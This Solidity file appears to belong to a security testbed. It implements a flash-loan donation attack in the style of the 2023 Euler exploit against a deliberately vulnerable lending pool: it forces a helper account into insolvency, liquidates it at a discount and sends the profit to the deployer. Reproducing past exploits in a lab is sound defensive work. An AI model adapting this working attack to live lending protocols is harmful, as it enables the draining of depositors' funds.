// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {FlashLoanPool} from "../FlashLoanPool.sol";
import {FlashLoanAttack} from "./FlashLoanAttack.sol";
import {DonationLendingPool} from "../vulnerable/DonationLendingPool.sol";

/// @title DonationViolator — the account the DonationAttack makes insolvent
/// @notice Deployed by DonationAttack; only it can drive this account.
contract DonationViolator {
    address public immutable attacker;
    DonationLendingPool public immutable pool;

    error NotAttacker(address caller);

    constructor(DonationLendingPool pool_) {
        attacker = msg.sender;
        pool = pool_;
    }

    /// Deposits `amount`, levers up to the maximum, then donates enough deposit
    /// that the account's health falls to 80% (maximum liquidation discount).
    function leverAndDonate(uint256 amount) external {
        if (msg.sender != attacker) revert NotAttacker(msg.sender);
        IERC20 asset = pool.asset();
        asset.approve(address(pool), amount);
        pool.deposit(amount);
        // deposit D + minted M, debt M; solvent while (D + M) * cf >= M.
        uint256 cf = pool.collateralFactorBps();
        uint256 minted = (amount * cf) / (pool.BPS() - cf);
        pool.mint(minted);
        // Health = deposit * cf / debt = 80%  =>  deposit = 0.8 * debt / cf.
        uint256 target = (minted * (pool.BPS() - pool.MAX_LIQUIDATION_DISCOUNT_BPS())) / cf;
        pool.donateToReserves(pool.depositOf(address(this)) - target);
    }
}

/// @title DonationAttack — drains a DonationLendingPool (Euler 2023 shape)
/// @notice `attack()` is one round, one transaction: flash-borrow `loanAmount`,
/// make a fresh DonationViolator insolvent through `donateToReserves`, liquidate
/// it from this contract at a 20% discount, cancel the inherited debt with
/// `burn`, withdraw the surplus deposit, repay the loan and send the profit
/// (~60% of the loan per round) to the deployer. Repeating it drains the pool
/// in a few transactions. While the pool is paused every round reverts.
contract DonationAttack is FlashLoanAttack {
    DonationLendingPool public immutable pool;

    constructor(DonationLendingPool pool_, FlashLoanPool flashLender_, uint256 loanAmount_)
        FlashLoanAttack(flashLender_, loanAmount_)
    {
        pool = pool_;
    }

    function _loanToken() internal view override returns (IERC20) {
        return pool.asset();
    }

    function _exploit(address token, uint256 amount) internal override {
        DonationViolator violator = new DonationViolator(pool);
        IERC20(token).transfer(address(violator), amount);
        violator.leverAndDonate(amount);

        pool.liquidate(address(violator), type(uint256).max);
        pool.burn(pool.debtOf(address(this)));
        pool.withdraw(pool.depositOf(address(this)));
    }
}
